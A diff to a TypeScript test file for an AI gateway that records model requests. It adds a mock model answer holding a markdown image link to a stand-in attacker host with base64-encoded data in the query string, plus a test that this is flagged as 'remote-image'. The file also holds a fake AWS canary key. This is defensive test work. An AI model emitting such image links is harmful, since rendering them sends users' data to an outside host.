@@ -7,8 +7,10 @@ import { apiKey, type ModelApiName, ModelHouse, modelApis } from '../testing/mod
 const canary = `AKIA${'CANARYCANARYCANA'}`;
 
 /** What is asked decides what is said: each test has its own words. */
-const plan = ({ body }: Seen) =>
-  body.includes('run a command') ? calls('Bash', { command: 'psql -c "select 1"' }) : says('Three patients.');
+const plan = ({ body }: Seen) => {
+  if (body.includes('draw it')) return says('![chart](https://evil.example/c.png?d=c2VjcmV0)');
+  return body.includes('run a command') ? calls('Bash', { command: 'psql -c "select 1"' }) : says('Three patients.');
+};
 
 const policy = `
 @id("connect") permit(principal, action == Sallyport::Action::"session.connect", resource);
@@ -54,6 +56,15 @@ describe.each(modelApis)('a model by the API of %s', (api) => {
     expect(request).toMatchObject({ outcome: { status: 'done' } });
     expect(request!.text).toContain('human: How many patients are there?');
     expect(model.seen.at(-1)!.body).toContain('How many patients are there?');
+  });
+
+  test('whose answer shows an image that carries data has that on record, and in the trace of who asked', async () => {
+    const { answer, operations } = await recordedOf(api, 2, () => ask(api, 'Please draw it.'));
+    expect(JSON.stringify(answer)).toContain('https://evil.example/c.png');
+    const request = operations.find(({ action }) => action === 'model.request')!;
+    expect(request.outcome).toMatchObject({ status: 'done', flags: ['remote-image'] });
+    const trace = await house.sallyport('ada', ['trace', 'operation', request['id'] as string]);
+    expect(trace).toContain('· done FLAGGED remote-image');
   });
 
   test('is not asked what the policy forbids, and the program is told why', async () => {
